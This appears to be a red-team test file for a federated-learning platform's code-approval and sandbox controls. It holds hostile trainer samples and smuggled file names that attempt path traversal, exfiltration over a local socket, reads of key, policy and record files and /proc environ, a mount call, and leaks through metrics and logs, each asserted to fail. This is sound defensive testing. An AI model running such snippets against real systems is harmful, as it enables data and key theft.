# SPDX-License-Identifier: Apache-2.0
"""Training code that nobody approved, that is not the approved one, or that was approved and is hostile."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

from cloister.flare.job_folder import CODE, SERVER_APP, SITE_APP
from cloister.jobs import Code
from tests.redteam.attempts import Tries
from tests.redteam.leaving import Site
from tests.redteam.policies import version
from tests.redteam.scene import CANARY, Scene
from tests.redteam.signers import signed_anew

TRIES = Tries()

CODE_FILE = f"{SITE_APP}/{CODE}"


def code_of(scene: Scene, more: str = "") -> Code:
    return Code({"trainer.py": f"open({str(scene.marker)!r}, 'a').write({CANARY!r})\n{more}"})


def approved(code: Code, until: str = "2099-12-31") -> dict[str, Any]:
    return {"code": {"approved": [{"sha256": code.digest, "by": "olga@research.example", "until": until}]}}


@TRIES("unapproved-code")
def _(scene: Scene) -> list[str]:
    code = code_of(scene)
    answers = [scene.deploy(scene.job(brings=code))]
    version(scene, 2, **approved(code_of(scene, "# another\n")))
    return [*answers, scene.deploy(scene.job(brings=code))]


@TRIES("code-one-byte-off")
def _(scene: Scene) -> list[str]:
    code = code_of(scene, "# approved\n")
    version(scene, 2, **approved(code))
    assert scene.deploy(scene.job(brings=code)) == "", "the approved code is let in"
    renamed = Code({**code.files, "other.py": ""})
    return [scene.deploy(scene.job(brings=other)) for other in (code_of(scene, "# approveD\n"), renamed)]


@TRIES("code-whose-approval-ended")
def _(scene: Scene) -> list[str]:
    code = code_of(scene)
    version(scene, 2, **approved(code, until="2026-01-02"))
    return [scene.deploy(scene.job(brings=code))]


@TRIES("code-swapped-on-the-way")
def _(scene: Scene) -> list[str]:
    """The approved code is signed for, and other code arrives under the signer's own, renewed signature."""
    code = code_of(scene, "# approved\n")
    version(scene, 2, **approved(code))
    other = code_of(scene, "# another\n").to_bytes()
    files = {**scene.job(brings=code).files, CODE_FILE: other}
    return scene.both(signed_anew(scene, files))


@TRIES("code-that-the-document-does-not-name")
def _(scene: Scene) -> list[str]:
    """Code beside a document that names none, a document that names code and comes without, code at the server."""
    code = code_of(scene)
    version(scene, 2, **approved(code))
    beside = scene.job(lambda files: files.update({CODE_FILE: code.to_bytes()}))
    without = scene.job(lambda files: files.pop(CODE_FILE), brings=code)
    at_server = scene.job(lambda files: files.update({f"{SERVER_APP}/{CODE}": code.to_bytes()}), brings=code)
    return [*scene.both(beside), *scene.both(without), scene.submit(at_server), scene.server_app(at_server)]


@TRIES("code-that-climbs-out")
def _(scene: Scene) -> list[str]:
    """Paths, kinds and spellings that code may not have, each signed for."""
    trainer = "class Trainer: pass\n"
    sets: list[Any] = [
        {"../evil.py": CANARY, "trainer.py": trainer},
        {str(scene.marker): CANARY, "trainer.py": trainer},
        {"sitecustomize.so": CANARY, "trainer.py": trainer},
        {".hidden.py": CANARY, "trainer.py": trainer},
        {"__pycache__/trainer.py": CANARY, "trainer.py": trainer},
        {"trainer.py": "# coding: utf-7\n" + trainer},
        {"trainer.py": "a = 1 \u202e# b\n" + trainer},
        {"evil.py": CANARY},
        ["trainer.py"],
    ]
    texts = [json.dumps({"files": files}).encode() for files in sets]
    texts += [json.dumps({"files": {"trainer.py": trainer}, "note": CANARY}).encode(), b"[" * 100_000]
    honest = code_of(scene)
    jobs = [scene.job(lambda files, text=text: files.update({CODE_FILE: text}), brings=honest) for text in texts]
    return [answer for job in jobs for answer in scene.both(job)]


# Nothing of the ML stack is needed to be hostile, so that these take no seconds.
_TRAINER = """
import sys
from cloister.training.interface import Round

from pyarrow import parquet

# A word out of the records that the code may train on; it is nowhere in the code.
TEXT = parquet.read_table("/view/train.parquet").column("note")[0].as_py()
WORD = next(word for word in TEXT.split() if word.startswith("canary"))

class Trainer:
    def __init__(self, setup):
        {prepare}
    def load_adapter(self, blob):
        self.blob = blob
    def adapter(self):
        {adapter}
    def evaluate(self):
        return {metrics}
    def train(self, number, report):
        {train}
        report(1, 1)
        return Round(loss=1.0, records=4)
"""


def trainer_of(
    *, prepare: str = "pass", adapter: str = "return self.blob", metrics: str = "{'accuracy': 0.5}", train: str = "pass"
) -> str:
    return _TRAINER.format(prepare=prepare, adapter=adapter, metrics=metrics, train=train)


def running(scene: Scene, text: str) -> Site:
    """A site that trains with hostile code which its officer approved, in the real sandbox."""
    code = Code({"trainer.py": text})
    return Site(scene, code=code, policy=approved(code))


def log_of(site: Site) -> str:
    return (site.job.private / "trainer.log").read_text(encoding="utf-8", errors="replace")


@TRIES("approved-code-reaches-out")
def _(scene: Scene) -> list[str]:
    """For the network, the site's key, its policy, its raw records, other processes, and places to hide in."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.3)
        port = listener.getsockname()[1]
        folder = scene.folder / "key-and-records"
        folder.mkdir()
        tries = {
            "network": f"socket.create_connection(('127.0.0.1', {port}), 2).sendall(WORD.encode())",
            "names": "socket.getaddrinfo('example.org', 80)",
            "marker": f"open({str(scene.marker)!r}, 'w').write(WORD)",
            "view": "open('/view/more', 'w').write(WORD)",
            "code": "open('/code/more.py', 'w').write(WORD)",
            "keys": "open(STATE + '/sites/alpha/startup/rootCA.pem').read()",
            "policy": "open(ROOT + '/policies/alpha.yaml', 'a').write('#')",
            "records": "open(ROOT + '/records/alpha.csv').read()",
            "parent": "os.kill(os.getppid(), 0) or open('/proc/1/environ').read().index('CLOISTER')",
            "mount": "ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) and open('/nowhere')",
        }
        lines = ["import ctypes, os, socket"] + [
            f"try:\n            {act}\n            print('tried {name} done', file=sys.stderr)\n"
            f"        except Exception as error:\n            print('tried {name} failed', file=sys.stderr)"
            for name, act in tries.items()
        ]
        root_of = "ROOT, STATE = {root!r}, {root!r} + '/.cloister'"
        text = trainer_of(train="\n        ".join([root_of, *lines]))
        # The path of the federation's folder is known only once it is made, and the code only once it is written.
        site = running(scene, text.replace("{root!r}", repr(str(_next_site(scene)))))
        try:
            site.prepared()
            answer = site.round()
            tried = log_of(site)
        finally:
            site.job.close()
        assert '"kind":"update"' in answer
        assert [name for name in tries if f"tried {name} failed" not in tried] == [], tried
        try:
            listener.accept()
        except TimeoutError:
            return [answer]
    raise AssertionError("the code got through to a listener outside")


@TRIES("approved-code-tells-what-it-read")
def _(scene: Scene) -> list[str]:
    """In the names of metrics and of tensors, in its log, in its errors, and in a reply that is none."""
    told = "print(WORD * 3, file=sys.stderr)"
    tensors = (
        "import safetensors.numpy, numpy; arrays = safetensors.numpy.load(self.blob); "
        "arrays[WORD] = numpy.zeros(1, numpy.float32); return safetensors.numpy.save(arrays)"
    )
    texts = [
        trainer_of(metrics="{'accuracy': 0.5, WORD: 1.0}", train=f"{told}; import os; os.write(1, WORD.encode())"),
        trainer_of(adapter=tensors, train=told),
        trainer_of(train=f"{told}; raise ValueError(WORD)"),
    ]
    answers = []
    for text in texts:
        site = running(scene, text)
        try:
            site.prepared()
            answers.append(site.round())
            assert CANARY in log_of(site), "what the trainer prints stays in the site's log"
        finally:
            site.job.close()
    return answers


def _next_site(scene: Scene) -> Path:
    """The folder that the next `Site` will be made in."""
    return (scene.folder / f"site-{len(list(scene.folder.iterdir()))}").resolve()
